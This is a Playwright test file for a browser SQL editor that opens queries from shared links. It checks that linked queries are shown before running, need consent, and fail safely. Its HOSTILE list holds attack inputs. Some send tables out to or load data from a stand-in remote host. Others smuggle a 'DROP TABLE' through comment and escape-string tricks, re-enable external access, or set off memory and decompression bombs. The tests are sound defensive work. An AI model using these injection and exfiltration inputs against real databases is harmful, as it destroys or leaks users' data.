import { packStatement } from '../../src/data/sql/packed-statement';
import { formatLink } from '../../src/core/permalink/permalink';
import { sampleLines } from './files';
import { expect, expectAccessible, openView, test } from './fixtures';
import { cell, editor, expectTablesIntact, grid, OPENING, sqlLink } from './sql';

const RECORDS = sampleLines().length;
const ENGINE_NOISE = /memory access out of bounds|Out of Memory|unreachable|RuntimeError/;

test.slow();

const HOSTILE: readonly (readonly [name: string, sql: string, answer: RegExp])[] = [
  ['ATTACH', "ATTACH 'https://foreign.invalid/x.db' AS x", /ATTACH begins no query/],
  ['COPY', "COPY records TO 'https://foreign.invalid/x.csv'", /COPY begins no query/],
  ['read_csv of an address', "SELECT * FROM read_csv('https://foreign.invalid/x.csv')", /Permission Error/],
  ['an address as a table', "SELECT * FROM 'https://foreign.invalid/x.parquet'", /does not exist|Permission Error/],
  ['INSTALL', 'INSTALL httpfs', /INSTALL begins no query/],
  ['two statements', 'SELECT 1; DROP TABLE records', /second one begins here/],
  [
    'a comment that a carriage return ends',
    'SELECT 1 --\r); DROP TABLE records; SELECT * FROM (SELECT 2',
    /second one begins/,
  ],
  [
    'a continued escape string',
    `SELECT E'a'\n'\\'x'); DROP TABLE records; SELECT * FROM (SELECT 2 --'\n, 3`,
    /One statement at a time/,
  ],
  ['a settings change', 'SET enable_external_access = true', /SET begins no query/],
  ['a memory bomb', "SELECT repeat('abcdefghij', 30000000) FROM range(100)", /broke and was started again/],
];

for (const [name, sql, answer] of HOSTILE) {
  test(`a link with ${name} is shown, not run; agreed to, it harms nothing`, async ({ page, guard }) => {
    guard.allow(ENGINE_NOISE);
    await openView(page, sqlLink(sql));
    await expect(page.getByText('This query came with a link. Run it?')).toBeVisible();
    // The editor's lines are elements of their own.
    await expect(editor(page)).toHaveText(sql.replaceAll(/[\r\n]/g, ''));
    // No engine was even started.
    expect(
      page
        .workers()
        .map((worker) => worker.url())
        .filter((url) => /sql|duckdb/.test(url)),
    ).toEqual([]);
    await page.reload();
    await expect(page.getByText('This query came with a link. Run it?')).toBeVisible();
    await page.getByRole('button', { name: 'Run it' }).click();
    await expect(page.getByRole('alert')).toContainText(answer, { timeout: OPENING });
    await expectTablesIntact(page, RECORDS);
  });
}

test('a link with an endless query waits for its reader, and is cancelled', async ({ page }) => {
  await openView(page, sqlLink('SELECT count(*) FROM range(1000000000000)'));
  await expect(page.getByText('This query came with a link. Run it?')).toBeVisible();
  await expectAccessible(page);
  await page.getByRole('button', { name: 'Run it' }).click();
  await expect(page.getByText('Running …')).toBeVisible({ timeout: OPENING });
  await page.getByRole('button', { name: 'Cancel' }).click();
  await expect(page.getByText('Cancelled. The tables are as they were.')).toBeVisible();
  await expectTablesIntact(page, RECORDS);
});

test('what the reader makes of a linked query is the reader’s own', async ({ page }) => {
  await openView(page, sqlLink('SELECT 1'));
  await expect(page.getByText('This query came with a link. Run it?')).toBeVisible();
  await editor(page).click();
  await page.keyboard.press('Control+End');
  await page.keyboard.insertText('2');
  await expect(page.getByText('This query came with a link. Run it?')).toHaveCount(0);
  await page.keyboard.press('Control+Enter');
  await expect(cell(page, 0, 0)).toHaveText('12', { timeout: OPENING });
  await expect(page).toHaveURL(/sql=SELECT\+12/);
});

test('a long query travels packed, a damaged one is explained, and a bomb is not unpacked', async ({ page }) => {
  const long = `SELECT ${Array.from({ length: 200 }, (_, i) => `${i} AS column_${i}`).join(', ')}`;
  const link = (text: string) => formatLink({ view: 'sql', statement: { form: 'packed', text } }, null);
  const packed = packStatement(long) ?? '';
  await openView(page, link(packed));
  await expect(editor(page)).toContainText('column_199');
  await page.getByRole('button', { name: 'Run it' }).click();
  await expect(grid(page)).toBeVisible({ timeout: OPENING });
  await grid(page).focus();
  await page.keyboard.press('End');
  await expect(cell(page, 0, 199)).toHaveText('199');

  await page.goto(`./${link(packed.slice(0, -20))}`);
  await expect(page.getByRole('alert')).toContainText('The link’s query cannot be shown');
  // 4 MB of blanks pack into a few kB.
  const bomb = Buffer.from((await import('fflate')).deflateSync(new Uint8Array(4_000_000).fill(32))).toString(
    'base64url',
  );
  await page.goto(`./${link(bomb)}`);
  await expect(page.getByRole('alert')).toContainText('more than 200 kB');
});

test('back and forward walk through the tabs without asking', async ({ page }) => {
  await openView(page, '#/sql');
  await editor(page).click();
  await page.keyboard.insertText('SELECT 1 AS one');
  await page.getByRole('button', { name: 'New tab' }).click();
  await editor(page).click();
  await page.keyboard.insertText('SELECT 2 AS two');
  await expect(page).toHaveURL(/two/);
  await page.goBack();
  await expect(editor(page)).toHaveText('SELECT 1 AS one');
  await page.goForward();
  await expect(editor(page)).toHaveText('SELECT 2 AS two');
  await expect(page.getByText('came with a link')).toHaveCount(0);
});
